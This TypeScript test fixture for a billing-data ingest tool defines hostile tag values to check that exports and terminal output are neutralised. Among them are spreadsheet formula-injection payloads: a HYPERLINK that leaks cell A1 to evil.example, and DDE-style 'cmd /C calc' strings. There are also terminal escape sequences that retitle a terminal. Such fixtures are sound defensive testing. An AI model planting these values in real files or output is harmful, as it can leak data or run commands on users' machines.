import { expect } from 'vitest';
import { ACCOUNT_A, focusCsvText, type FixtureLine } from '../attribution/fixtures.ts';
import { storeCopyOf } from '../helpers/cached-ingest.ts';
import { cachedIngestRuns } from '../helpers/cached-stores.ts';
import { cachedStoreOf } from '../helpers/cached-text-store.ts';

/** Tag values from issue #16, item 3: what a spreadsheet would run as formulas. */
export const FORMULAS = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  plusCmd: "+1+cmd|' /C calc'!A0",
  atSum: "@SUM(1+1)*cmd|' /C calc'!A0",
  minusCmd: "-2+3+cmd|' /C calc'!A0",
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
} as const;

/** Issue #16, item 8: ESC ] 0 ; … BEL retitles a terminal; ESC [ 31 m turns it red. */
export const RETITLE = '\x1b]0;pwned\x07';
export const RED_SERVICE = 'Amazon \x1b[31mRed\x1b[0m Service';

/**
 * March 2025 for one account: one line per hostile team value, a plain team, a credit (a
 * negative number that must stay a number), a line whose service name carries escape codes,
 * and an untagged line. BilledCost = EffectiveCost.
 */
export const HOSTILE_LINES: FixtureLine[] = [
  { account: ACCOUNT_A, billed: '10.00', tags: { team: FORMULAS.hyperlink } },
  { account: ACCOUNT_A, billed: '9.00', tags: { team: FORMULAS.plusCmd } },
  { account: ACCOUNT_A, billed: '8.00', tags: { team: FORMULAS.atSum } },
  { account: ACCOUNT_A, billed: '7.00', tags: { team: FORMULAS.minusCmd } },
  { account: ACCOUNT_A, billed: '6.00', tags: { team: FORMULAS.tab } },
  { account: ACCOUNT_A, billed: '5.00', tags: { team: FORMULAS.carriageReturn } },
  { account: ACCOUNT_A, billed: '4.00', tags: { team: 'payments' } },
  { account: ACCOUNT_A, billed: '-12.50', tags: { team: 'refunds' }, chargeCategory: 'Credit' },
  { account: ACCOUNT_A, billed: '3.00', tags: { team: RETITLE }, serviceName: RED_SERVICE, productCode: 'AmazonRed' },
  { account: ACCOUNT_A, billed: '2.00' },
];

/**
 * A private copy of the store holding HOSTILE_LINES (`store.duckdb` alone in its own temporary
 * folder): one `costlens ingest` of their CSV, built once per machine (tests/helpers/cached-text-store.ts),
 * which printed nothing on stderr.
 */
export async function hostileStore(): Promise<{ dir: string; db: string }> {
  const { db, paths } = await cachedStoreOf([{ name: 'hostile.csv', text: focusCsvText(HOSTILE_LINES) }]);
  const [run] = await cachedIngestRuns([[paths['hostile.csv']]]);
  expect([run.code, run.stderr]).toEqual([0, '']);
  return storeCopyOf(db);
}
